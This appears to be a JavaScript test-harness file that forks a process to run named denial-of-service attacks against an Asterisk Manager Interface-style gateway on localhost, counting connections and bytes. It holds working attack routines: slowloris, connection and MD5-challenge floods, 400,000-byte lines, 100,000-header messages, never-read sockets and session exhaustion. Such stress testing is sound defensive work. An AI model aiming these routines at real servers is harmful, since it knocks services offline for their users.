// Attacks on one port, in a process of their own: what they cost themselves must not slow the clients that are measured.
//   forked with the attack's name and its settings; tells its counts when it is asked to stop
import { connect } from 'node:net';

/**
 * `addresses` is how many addresses of 127/8 it comes from; `count` how many connections it keeps at the same time.
 * @typedef {{ readonly port: number, readonly count: number, readonly addresses: number }} Settings
 * @typedef {{ opened: number, ended: number, failed: number, sentBytes: number, rounds: number }} Counts
 * @typedef {(socket: import('node:net').Socket) => void} Conduct  What it does on each connection.
 */

/** @type {Counts} */
const counts = { opened: 0, ended: 0, failed: 0, sentBytes: 0, rounds: 0 };
let isStopping = false;
/** Before a connection that was ended is opened anew: an attacker has a limit too, and a kernel has one for ports. */
const REOPEN_MS = 20;
const SLOW_BYTE_MS = 2000;
const LOGIN = 'Action: Login\r\nUsername: attacker\r\nSecret: s\r\n';

/** @type {Readonly<Record<string, Conduct>>} */
const attacks = {
  /** Begins a login and never ends it: one byte every two seconds. */
  slowloris: (socket) => {
    const text = `${LOGIN}${'X: y\r\n'.repeat(1000)}`;
    let at = 0;
    every(socket, SLOW_BYTE_MS, () => send(socket, text[at++ % text.length] ?? ''));
  },
  /** The same behind a login: no deadline there. */
  'slow-session': (socket) => {
    send(socket, `${LOGIN}Events: off\r\n\r\n`);
    every(socket, SLOW_BYTE_MS, () => send(socket, 'A'));
  },
  'connection-flood': (socket) => socket.once('data', () => socket.destroy()),
  'challenge-flood': (socket) => {
    const challenge = 'Action: Challenge\r\nAuthType: MD5\r\n\r\n'.repeat(20);
    onAnswers(socket, 20, () => send(socket, challenge));
  },
  'long-lines-before-login': (socket) => send(socket, 'x'.repeat(400_000)),
  'long-lines': (socket) => {
    const line = `Action: Ping\r\nX: ${'x'.repeat(400_000)}\r\n\r\n`;
    send(socket, `${LOGIN}Events: off\r\n\r\n`);
    onAnswers(socket, 1, () => send(socket, line));
  },
  'many-headers': (socket) => {
    const message = `Action: Ping\r\n${'X: y\r\n'.repeat(100_000)}\r\n`;
    send(socket, `${LOGIN}Events: off\r\n\r\n`);
    onAnswers(socket, 1, () => send(socket, message));
  },
  /** Asks for everything and takes nothing. */
  'never-reading': (socket) => {
    socket.pause();
    send(socket, `${LOGIN}Events: on\r\n\r\n`);
  },
  /** Goes without a word while its actions are at Asterisk. */
  'vanish-mid-action': (socket) => {
    send(socket, `${LOGIN}Events: off\r\n\r\n`);
    socket.once('data', () => {
      send(socket, 'Action: Slow\r\n\r\nAction: CoreStatus\r\n\r\n'.repeat(5));
      setTimeout(() => socket.resetAndDestroy(), 50);
    });
  },
  /** Logs in and stays: takes a descriptor of the gateway each. */
  'many-sessions': (socket) => send(socket, `${LOGIN}Events: off\r\n\r\n`),
};

const [, , name = '', text = '{}'] = process.argv;
const conduct = attacks[name];
if (conduct === undefined) throw new Error(`there is no attack ${name}`);
begin(conduct, JSON.parse(text));

/** @param {Conduct} conduct @param {Settings} settings */
function begin(conduct, settings) {
  for (let number = 0; number < settings.count; number++) open(conduct, settings, number);
  process.on('message', () => {
    isStopping = true;
    process.send?.(counts, () => process.exit(0));
  });
  process.on('disconnect', () => process.exit(0));
  process.send?.('begun');
}

/** Opens the connection of this number, and again when it ends. @param {Conduct} conduct @param {Settings} settings @param {number} number */
function open(conduct, settings, number) {
  const place = number % settings.addresses;
  const localAddress = `127.1.${Math.floor(place / 250)}.${1 + (place % 250)}`;
  const socket = connect({ host: '127.0.0.1', port: settings.port, localAddress });
  socket.on('error', () => undefined);
  socket.once('connect', () => {
    counts.opened += 1;
    conduct(socket);
    if (!socket.isPaused()) socket.resume();
  });
  socket.once('close', () => {
    counts.ended += 1;
    if (socket.bytesRead === 0) counts.failed += 1;
    if (!isStopping) setTimeout(() => open(conduct, settings, number), REOPEN_MS);
  });
}

/** @param {import('node:net').Socket} socket @param {string} text */
function send(socket, text) {
  if (!socket.writable) return;
  counts.sentBytes += text.length;
  socket.write(text, 'latin1');
}

/** @param {import('node:net').Socket} socket @param {number} milliseconds @param {() => void} act */
function every(socket, milliseconds, act) {
  // Not all at the same moment.
  const timer = setInterval(act, milliseconds * (0.75 + Math.random() / 2));
  socket.once('close', () => clearInterval(timer));
}

/** Acts at once and whenever so many answers have come. @param {import('node:net').Socket} socket @param {number} wanted @param {() => void} act */
function onAnswers(socket, wanted, act) {
  let seen = 0;
  act();
  socket.on('data', (chunk) => {
    seen += chunk.toString('latin1').split('\r\n\r\n').length - 1;
    if (seen < wanted) return;
    seen -= wanted;
    counts.rounds += 1;
    act();
  });
}
